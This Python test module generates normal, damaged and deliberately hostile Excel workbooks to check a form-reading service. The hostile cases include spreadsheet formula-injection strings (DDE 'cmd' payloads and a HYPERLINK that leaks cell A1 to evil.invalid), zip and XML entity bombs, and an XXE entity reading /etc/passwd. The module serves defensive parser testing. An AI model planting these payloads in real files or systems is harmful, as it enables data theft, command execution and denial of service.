"""Workbooks of Excel 2007 and later: unusual but sound, damaged, and made to hurt."""

import re
import struct

from .box import READ
from .packages import (HEAD, MAIN, RELATIONS, WORKBOOK_TYPE, Member, Workbook, cell_xml, pack, sheet_xml, with_shared)

INJECTED = ['=HYPERLINK("http://evil.invalid/?q="&A1,"点击核对")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "=1+1", "http://evil.invalid/自评", "mailto:x@evil.invalid"]


def all_cases(box):
    for part in (names, writing, words, values, sheets, damaged, limits, locked):
        part(box)


def names(box):
    """Sound workbooks under names that say something else."""
    for path in ("xlsx/扩展名是xls.xls", "xlsx/扩展名是csv.csv", "xlsx/扩展名是pdf.pdf", "xlsx/没有扩展名", "xlsx/大写扩展名.XLSX"):
        form = box.form()
        box.good(path, Workbook(form).bytes(), form, kind="xlsx")
    form = box.form()
    book = Workbook(form).change("[Content_Types].xml", WORKBOOK_TYPE, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    book.parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x5a" * 700
    box.good("xlsx/宏工作簿.xlsm", book.bytes(), form, kind="xlsx")
    form = box.form()
    book = Workbook(form).change("[Content_Types].xml", "sheet.main", "template.main")
    box.good("xlsx/模板.xltx", book.bytes(), form, kind="xlsx")


def writing(box):
    """Ways of writing a package that other programs use."""
    form = box.form()
    box.good("xlsx/前有空行.xlsx", pack(Workbook(form).members(), before=b"\r\n\r\n"), form)
    form = box.form()
    members = [Member(name.replace("/", "\\"), text) for name, text in Workbook(form).finish().parts.items()]
    box.good("xlsx/反斜杠部件名.xlsx", pack(members), form)
    form = box.form()
    box.good("xlsx/流式写出.xlsx", pack(Workbook(form).members(streamed=True)), form)
    form = box.form()
    box.good("xlsx/未压缩.xlsx", pack(Workbook(form).members(method=0)), form)
    form = box.form()
    box.good("xlsx/大包格式.xlsx", Workbook(form).bytes(zip64=True), form)
    form = box.form()
    box.good("xlsx/注释里有假目录.xlsx", Workbook(form).bytes(comment=b"PK\5\6" + b"\0" * 18 + b"PK\1\2" + b"\xff" * 50), form,
             READ + "|unreadable|wrong_type|empty")
    form = box.form()
    book = Workbook(form)
    members = [Member(name.upper(), text) for name, text in book.finish().parts.items()]
    box.good("xlsx/部件名大写.xlsx", pack(members), form)
    form = box.form()
    book = Workbook(form).change("xl/_rels/workbook.xml.rels", 'Target="worksheets', 'Target="/xl/worksheets')
    box.good("xlsx/绝对路径关系.xlsx", book.bytes(), form)
    form = box.form()
    book = Workbook(form).finish()
    book.parts = {name.replace("xl/workbook.xml", "xl/book1.xml").replace("xl/_rels/workbook.xml", "xl/_rels/book1.xml"):
                  text.replace("xl/workbook.xml", "xl/book1.xml") for name, text in book.parts.items()}
    box.good("xlsx/主部件改名.xlsx", pack([Member(name, text) for name, text in book.parts.items()]), form)
    form = box.form()
    book = with_shared(form).finish()
    book.parts = {name: prefixed(text) if name.startswith("xl/") and not name.endswith(".rels") else text
                  for name, text in book.parts.items()}
    box.good("xlsx/命名空间前缀.xlsx", book.bytes(), form)
    form = box.form()
    book = with_shared(form).finish()
    strict = {MAIN: "http://purl.oclc.org/ooxml/spreadsheetml/main",
              RELATIONS: "http://purl.oclc.org/ooxml/officeDocument/relationships"}
    for old, new in strict.items():
        book.parts = {name: text.replace(old, new) for name, text in book.parts.items()}
    box.good("xlsx/严格格式.xlsx", book.bytes(), form)
    for name, encoding, mark in (("UTF16部件", "utf-16-le", b"\xff\xfe"), ("UTF16大端部件", "utf-16-be", b"\xfe\xff"),
                                 ("UTF8带标记", "utf-8", b"\xef\xbb\xbf")):
        form = box.form()
        book = with_shared(form).finish()
        said = "UTF-8" if encoding == "utf-8" else "UTF-16"
        for part, text in book.parts.items():
            if part.startswith("xl/"):
                book.parts[part] = mark + text.replace('encoding="UTF-8"', f'encoding="{said}"').encode(encoding)
        box.good(f"xlsx/{name}.xlsx", book.bytes(), form)
    form = box.form()
    plain = with_shared(form)
    part = "xl/worksheets/sheet1.xml"
    plain.parts[part] = re.sub(r'<(row|c) r="[A-Z]*\d+"', r"<\1", filled(form))
    box.good("xlsx/单元格不写地址.xlsx", plain.bytes(), form)


def prefixed(text):
    """The same XML with a prefix on every element."""
    text = re.sub(r"<(/?)([A-Za-z])", r"<\1x:\2", text)
    return text.replace("xmlns=", "xmlns:x=")


def filled(form):
    """A sheet in which every cell up to I16 is written, so that positions can be left out."""
    cells = {f"{column}{row}": form.cells.get(f"{column}{row}", "") for row in range(1, 17) for column in "ABCDEFGHI"}

    def render(where, value):
        return f'<c r="{where}"/>' if value == "" else cell_xml(where, value)

    return sheet_xml(cells, form.merges, render=render)


def words(box):
    """Texts: rich, long, with signs nobody sees, and with what a spreadsheet would take for a formula."""
    form = box.form()
    rich = ('<si><r><t>统计</t></r><r><rPr><b/></rPr><t xml:space="preserve">口径 </t></r><r><t>调整</t></r>'
            '<rPh sb="0" eb="2"><t>TONGJI</t></rPh><phoneticPr fontId="1"/></si>')
    book = with_shared(form, extra=[rich])
    count = book.parts["xl/sharedStrings.xml"].count("<si>")
    index = book.parts["xl/sharedStrings.xml"][:book.parts["xl/sharedStrings.xml"].index("统计口径调整")].count("<si>") - 1
    book.change("xl/worksheets/sheet1.xml", f'<c r="I13" t="s"><v>{index}</v>', f'<c r="I13" t="s"><v>{count - 1}</v>')
    form.cells["I13"] = "统计口径 调整"
    box.good("xlsx/富文本与注音.xlsx", book.bytes(), form, never=["TONGJI"])

    form = box.form()
    for number, text in enumerate(INJECTED):
        form.cells[f"A{20 + number}"] = text
    form.cells["D3"] = '=HYPERLINK("http://evil.invalid","项目")'
    form.cells["H4"] = "@临溪县样例站"
    form.cells["I13"] = "+cmd|' /C calc'!A0"
    form.cells["I14"] = '-1+HYPERLINK("http://evil.invalid")'
    form.cells["D13"] = "=1+1"
    more = ['自评表\tA20\t=HYPERLINK("http://evil.invalid/?q="&A1,"点击核对")', "自评表\tA25\t=1+1", "自评表\tD13\t=1+1"]
    box.good("xlsx/公式样的文本.xlsx", Workbook(form).bytes(), form, more=more)

    form = box.form()
    form.cells["I14"] = "偏" * 40_000
    box.good("xlsx/超长文本.xlsx", Workbook(form).bytes(), form, "warned", ["32767|32,767|过长|截"], never=["偏" * 32_768])

    form = box.form()
    book = Workbook(form).change("xl/worksheets/sheet1.xml", "年度资金总额</t>", "年度资金\u200b总额\u00a0</t>")
    book.change("xl/worksheets/sheet1.xml", "全年执行数</t>", "全年\u202e执行数\u202c</t>")
    book.change("xl/worksheets/sheet1.xml", "年初预算数</t>", "\ufeff年初　预算数</t>")
    wanted = [line for line in form.must_read() if "\tB6\t" not in line]
    box.file("xlsx/看不见的字符.xlsx", book.bytes())
    box.line("xlsx/看不见的字符.xlsx", READ, cells=wanted, figures=form.figures())

    form = box.form()
    book = Workbook(form).change("xl/worksheets/sheet1.xml", "统计口径调整", "统计口径&#0;调&#x1;整&#xFFFF;")
    box.file("xlsx/零字符.xlsx", book.bytes())
    box.line("xlsx/零字符.xlsx", READ + "|unreadable", cells=[line for line in form.must_read() if "\tI13\t" not in line],
             figures=form.figures(), never=["\0"])

    form = box.form()
    book = with_shared(form)
    book.change("xl/sharedStrings.xml", "统计口径调整", "统计_x000D_口径_x0041_调整")
    form.cells["I13"] = "统计 口径A调整"
    box.file("xlsx/转义字符.xlsx", book.bytes())
    box.line("xlsx/转义字符.xlsx", READ, cells=[line for line in form.must_read() if "\tI13\t" not in line],
             figures=form.figures())


def values(box):
    """Cell values: errors, formulas without a result, numbers at the edge."""
    form = box.form()
    errors = ["#SPILL!", "#CALC!", "#GETTING_DATA", "#FIELD!", "#BLOCKED!", "#DIV/0!", "#REF!", "#N/A", "#NAME?", "#不认识"]
    row = "".join(f'<c r="{chr(65 + n)}18" t="e"><v>{error}</v></c>' for n, error in enumerate(errors))
    xml = sheet_xml(form.cells, form.merges, more_rows=f'<row r="18">{row}</row>')
    box.good("xlsx/新错误值.xlsx", Workbook().add("自评表", xml).bytes(), form, more=["自评表\tF18\t#DIV/0!"])

    form = box.form()
    xml = sheet_xml(form.cells, form.merges).replace(
        f'<c r="F7"><v>{form.cells["F7"]!r}</v></c>', '<c r="F7" t="e"><f>D7/0</f><v>#DIV/0!</v></c>')
    box.good("xlsx/数是错误值.xlsx", Workbook().add("自评表", xml).bytes(), form, more=["自评表\tF7\t#DIV/0!"])

    form = box.form()
    total = f'<c r="H16"><v>{form.cells["H16"]!r}</v></c>'
    xml = sheet_xml(form.cells, form.merges)
    assert total in xml
    xml = xml.replace(total, '<c r="H16"><f>SUM(H6,H13:H15)</f></c>')
    box.file("xlsx/公式没有结果.xlsx", Workbook().add("自评表", xml).bytes())
    box.line("xlsx/公式没有结果.xlsx", "warned", ["没有保存计算结果|没有结果"],
             cells=[line for line in form.must_read() if "\tH16\t" not in line], figures=form.figures()[:4])

    form = box.form()
    total = f'<c r="H16"><v>{form.cells["H16"]!r}</v></c>'
    xml = sheet_xml(form.cells, form.merges).replace(
        total, f'<c r="H16"><f t="shared" ref="H16:H16" si="4000000000">SUM(H13:H15)</f><v>{form.cells["H16"]!r}</v></c>')
    assert "si=" in xml
    box.good("xlsx/共享公式编号巨大.xlsx", Workbook().add("自评表", xml).bytes(), form)

    form = box.form()
    odd = ["0.30000000000000004", "1E-7", "12345678901234567", "1e999", "NaN", "1,234", "０.５", "", "-0", "inf"]
    row = "".join(f'<c r="{chr(65 + n)}18"><v>{number}</v></c>' for n, number in enumerate(odd))
    row += '<c r="K18" t="b"><v>1</v></c><c r="L18" t="d"><v>2024-05-01T00:00:00Z</v></c>'
    xml = sheet_xml(form.cells, form.merges, more_rows=f'<row r="18">{row}</row>')
    box.good("xlsx/奇怪的数.xlsx", Workbook().add("自评表", xml).bytes(), form, more=["自评表\tA18\t0.3", "自评表\tF18\t1,234", "自评表\tK18\tTRUE", "自评表\tL18\t2024-05-01"],
             never=["\tinf", "NaN", "999"])
    form = box.form()
    xml = sheet_xml(form.cells, form.merges, more_rows='<row r="18"><c r="A18" t="zz"><v>7</v></c></row>')
    box.good("xlsx/不认识的单元格类型.xlsx", Workbook().add("自评表", xml).bytes(), form, READ + "|unreadable")


def sheets(box):
    """What else may stand in the list of sheets."""
    form = box.form()
    book = Workbook(form)
    macro = (f'{HEAD}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData>'
             f'<row r="1"><c r="A1"><f>HALT()</f><v>0</v></c></row></sheetData></xm:macrosheet>')
    book.add("宏1", macro, kind="xlMacrosheet", folder="macrosheets").finish()
    book.change("xl/_rels/workbook.xml.rels", f"{RELATIONS}/xlMacrosheet",
                "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet")
    box.good("xlsx/宏表.xlsm", book.bytes(), form)

    form = box.form()
    chart = f'{HEAD}<chartsheet xmlns="{MAIN}"><sheetViews/></chartsheet>'
    book = Workbook(form).add("图1", chart, kind="chartsheet", folder="chartsheets")
    box.good("xlsx/图表工作表.xlsx", book.bytes(), form)

    form = box.form()
    book = Workbook(form).add("其他", sheet_xml({"A1": "备注"}), ' state="show"')
    box.good("xlsx/未知表状态.xlsx", book.bytes(), form)

    form = box.form()
    book = Workbook(form).add("其他", sheet_xml({"A1": "备注"})).finish()
    book.change("xl/workbook.xml", ' r:id="rId2"', "")
    box.good("xlsx/表没有关系号.xlsx", book.bytes(), form)

    form = box.form()
    book = Workbook(form).add("其他", sheet_xml({"A1": "备注"})).finish()
    del book.parts["xl/worksheets/sheet2.xml"]
    box.good("xlsx/有一张表的部件没了.xlsx", book.bytes(), form, "warned", ["其他"])

    form = box.form()
    book = Workbook(form).add("极隐藏", sheet_xml({"A1": "备注", "B1": 5}), ' state="veryHidden"')
    box.good("xlsx/隐藏的表.xlsx", book.bytes(), form, "warned", ["隐藏"], more=["极隐藏\tB1\t5"])

    form = box.form()
    book = Workbook(form).add("坏表", sheet_xml({"A1": "备注", "B2": 5})[:-60])
    box.good("xlsx/有一张表坏了.xlsx", book.bytes(), form, "warned", ["坏表"])

    one, two = box.form(), box.form()
    book = Workbook(one).add("自评表", sheet_xml(two.cells, two.merges))
    box.good("xlsx/两表同名.xlsx", book.bytes(), one, "warned|unreadable", ["同名|重名|都叫"], more=two.must_read()[1:3])

    form = box.form()
    members = Workbook(form).members()
    other = box.form()
    members.append(Member("xl/worksheets/sheet1.xml", sheet_xml(other.cells, other.merges)))
    box.bad("xlsx/部件重复.xlsx", pack(members), "warned|unreadable", "重复|同名")

    form = box.form()
    book = Workbook(form).change("xl/worksheets/sheet1.xml", '<mergeCell ref="A3:C3"/>',
                                 '<mergeCell ref="A3:"/><mergeCell ref="?"/><mergeCell/><mergeCell ref="C3:A3"/>'
                                 '<mergeCell ref="A1:XFE1048577"/>')
    box.good("xlsx/坏的合并区.xlsx", book.bytes(), form)

    box.bad("xlsx/没有工作表.xlsx", Workbook().bytes(), "unreadable|empty", "工作表|数据")
    box.bad("xlsx/只有图表.xlsx", Workbook().add("图1", chart, kind="chartsheet", folder="chartsheets").bytes(),
            "unreadable|empty", "工作表|数据")
    box.bad("xlsx/工作表是空的.xlsx", Workbook().add("自评表", sheet_xml({})).bytes(), "empty", "没有任何数据|没有数据|空",
            kind="xlsx")
    box.bad("xlsx/不是自评表.xlsx", Workbook().add("通讯录", sheet_xml({"A1": "科室", "B1": "房间", "A2": "办公室", "B2": 301}))
            .bytes(), "no_form", "没有自评表", kind="xlsx", cells=["通讯录\tB2\t301"])
    book = Workbook(box.form()).finish()
    del book.parts["xl/workbook.xml"]
    members = [Member(name, text) for name, text in book.parts.items()]
    box.bad("xlsx/没有工作簿部件.xlsx", pack(members), "unreadable|wrong_type", "部件|损坏|工作表|压缩包")
    box.file("xlsx/其实是压缩包.xlsx", pack([Member("说明.txt", "请查收")]))
    box.line("xlsx/其实是压缩包.xlsx", "wrong_type|warned", ["压缩包"])
    box.line("xlsx/其实是压缩包.xlsx!/说明.txt", "no_form")


def damaged(box):
    """Cut, spoiled, and lying about themselves."""
    whole = with_shared(box.form()).bytes()
    box.bad("xlsx/传了一半.xlsx", whole[:len(whole) // 2], "unreadable", "不完整|未传完")
    box.bad("xlsx/少了末尾.xlsx", whole[:-30], "unreadable", "不完整|未传完")
    box.bad("xlsx/只有开头.xlsx", whole[:40], "unreadable", "不完整|未传完")
    box.bad("xlsx/没有目录.xlsx", pack(Workbook(box.form()).members(), directory=False), "unreadable", "不完整|未传完")
    box.bad("xlsx/目录偏移错.xlsx", spoil(whole, b"PK\5\6", 16, struct.pack("<I", 0x7FFFFFFF)), "unreadable")
    box.bad("xlsx/条目数撒谎.xlsx", spoil(whole, b"PK\5\6", 8, struct.pack("<2H", 60000, 60000)), "unreadable|" + READ)
    members = Workbook(box.form()).members()
    members[-1].crc ^= 0x55
    box.bad("xlsx/校验不符.xlsx", pack(members), "unreadable", "校验|损坏")
    members = Workbook(box.form()).members()
    members[-1].size = 10
    box.bad("xlsx/大小写小了.xlsx", pack(members), "unreadable|" + READ)
    members = Workbook(box.form()).members()
    members[-1].size = 0xFFFFFFF0
    box.bad("xlsx/大小写大了.xlsx", pack(members), "unreadable|too_large|" + READ)
    members = Workbook(box.form()).members()
    members[-1].packed = members[-1].packed[:len(members[-1].packed) // 2]
    box.bad("xlsx/压缩流断了.xlsx", pack(members), "unreadable", "损坏|不完整|校验")
    members = Workbook(box.form()).members()
    for member in members:
        member.method = 12
    box.bad("xlsx/不认识的压缩法.xlsx", pack(members), "unreadable", "压缩|损坏|另存")
    form = box.form()
    broken = sheet_xml(form.cells, form.merges).replace('<row r="9">', '<row r="9"><c r="A9"><v>1</c></row><<')
    box.bad("xlsx/表的XML坏了.xlsx", Workbook().add("自评表", broken).bytes(), "unreadable|warned", "损坏|自评表")
    box.bad("xlsx/乱码.xlsx", noise(20_000), "wrong_type|unreadable")
    box.bad("xlsx/全是零.xlsx", b"\0" * 4096, "wrong_type|unreadable|empty")
    form = box.form()
    cells = '<row r="18"><c r="A18" t="s"><v>99999</v></c><c r="B18" t="s"><v>-1</v></c><c r="C18" t="s"><v>x</v></c></row>'
    box.good("xlsx/字符串编号越界.xlsx", with_shared(form, more_rows=cells).bytes(), form, "warned|unreadable",
             ["字符串|文本|A18|损坏|缺"])


def spoil(content, mark, offset, value):
    """Overwrites bytes behind the last place of a mark."""
    at = content.rindex(mark) + offset
    return content[:at] + value + content[at + len(value):]


def noise(length, state=0x2545F4914F6CDD1D):
    """Bytes without any meaning, the same at every run."""
    out = bytearray()
    while len(out) < length:
        state ^= (state << 13) & 0xFFFFFFFFFFFFFFFF
        state ^= state >> 7
        state ^= (state << 17) & 0xFFFFFFFFFFFFFFFF
        out.append(state >> 24 & 255)
    return bytes(out)


def limits(box):
    """Small on disk, endless in memory: each of these must cost one line and nothing else."""
    form = box.form()
    rows = '<row r="18"><c r="XFE18"><v>1</v></c></row><row r="16777217"><c r="A16777217"><v>2</v></c></row>'
    box.good("xlsx/超出网格.xlsx", Workbook().add("自评表", sheet_xml(form.cells, form.merges, more_rows=rows)).bytes(), form,
             "warned", ["范围|超出|以外"])
    form = box.form()
    rows = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    box.good("xlsx/对角两格.xlsx", Workbook().add("自评表", sheet_xml(form.cells, form.merges, more_rows=rows)).bytes(), form,
             more=["自评表\tXFD1048576\t1"])
    for name, count in (("共享串数量撒谎", 10**11), ("共享串数量到顶", 2**64 - 1)):
        form = box.form()
        box.good(f"xlsx/{name}.xlsx", with_shared(form, unique=count).bytes(), form)
    form = box.form()
    book = Workbook(form, before='<dimension ref="A1:XFD1048576"/>')
    box.good("xlsx/维度写成全表.xlsx", book.bytes(), form)
    form = box.form()
    columns = '<cols><col min="1" max="4294967295" width="9" hidden="1"/><col min="9" max="1"/></cols>'
    box.good("xlsx/列宽到天边.xlsx", Workbook(form, before=columns).bytes(), form)

    gap = b" " * (40 << 20)
    book = Workbook().add("自评表", f'{HEAD}<worksheet xmlns="{MAIN}"><sheetData>').finish()
    book.parts["xl/worksheets/sheet1.xml"] = book.parts["xl/worksheets/sheet1.xml"].encode() + gap
    box.bad("xlsx/炸弹_空白.xlsx", book.bytes(), "too_large", "解压")
    book = with_shared(box.form())
    book.parts["xl/sharedStrings.xml"] = f'{HEAD}<sst xmlns="{MAIN}"><si><t>'.encode() + b"a" * (40 << 20)
    box.bad("xlsx/炸弹_字符串.xlsx", book.bytes(), "too_large", "解压")
    rows = (HEAD + f'<worksheet xmlns="{MAIN}"><sheetData>').encode() + b'<row><c t="b"><v>1</v></c></row>' * 1_200_000
    book = Workbook().add("自评表", "").finish()
    book.parts["xl/worksheets/sheet1.xml"] = rows
    box.bad("xlsx/炸弹_行.xlsx", book.bytes(), "too_large", "解压|单元格")
    members = Workbook(box.form()).members()
    block = b"0" * (8 << 20)
    first = Member("xl/media/0.bin", block)
    copies = [Member(f"xl/media/{n}.bin", b"", at=b"xl/media/0.bin", crc=first.crc, size=first.size, packed=first.packed)
              for n in range(1, 200)]
    box.bad("xlsx/炸弹_重叠.xlsx", pack(members + [first] + copies), "too_large|unreadable|" + READ)

    lol = '<!DOCTYPE x [<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]>"
    form = box.form()
    book = with_shared(form)
    book.change("xl/sharedStrings.xml", HEAD, HEAD + lol).change("xl/sharedStrings.xml", "统计口径调整", "&a11;")
    box.bad("xlsx/实体炸弹.xlsx", book.bytes(), READ + "|unreadable")
    form = box.form()
    book = with_shared(form)
    book.change("xl/sharedStrings.xml", HEAD, HEAD + '<!DOCTYPE x [<!ENTITY pass SYSTEM "file:///etc/passwd">]>')
    book.change("xl/sharedStrings.xml", "统计口径调整", "&pass;")
    box.bad("xlsx/外部实体.xlsx", book.bytes(), READ + "|unreadable", never=["root:"])
    form = box.form()
    deep = "<x>" * 100_000 + "</x>" * 100_000
    box.good("xlsx/嵌套很深.xlsx", Workbook(form, after=deep).bytes(), form, READ + "|unreadable")
    form = box.form()
    many = " ".join(f'a{n:x}=""' for n in range(60_000))
    box.good("xlsx/属性很多.xlsx", Workbook(form, before=f"<sheetPr {many}/>").bytes(), form, READ + "|unreadable")
    form = box.form()
    names = "".join(f'<definedName name="n{n}">自评表!$A$1</definedName>' for n in range(20_000))
    book = Workbook(form).finish()
    book.change("xl/workbook.xml", "</sheets>", f"</sheets><definedNames>{names}</definedNames>")
    box.good("xlsx/名称两万个.xlsx", book.bytes(), form)
    form = box.form()
    merges = form.merges + [f"K{row}:L{row}" for row in range(1, 30_001)] + ["A1:XFD1048576"]
    box.good("xlsx/合并区三万个.xlsx", Workbook().add("自评表", sheet_xml(form.cells, merges)).bytes(), form)


def locked(box):
    """Packages whose parts carry a password of the zip itself."""
    box.bad("xlsx/部件带密码.xlsx", pack(Workbook(box.form()).members(password=b"123456")), "encrypted", "密码")
    members = Workbook(box.form()).members()
    members[-1] = Member("xl/worksheets/sheet1.xml", b"x" * 50, method=99, flags=1)
    box.bad("xlsx/部件AES加密.xlsx", pack(members), "encrypted|unreadable", "密码|损坏|压缩")
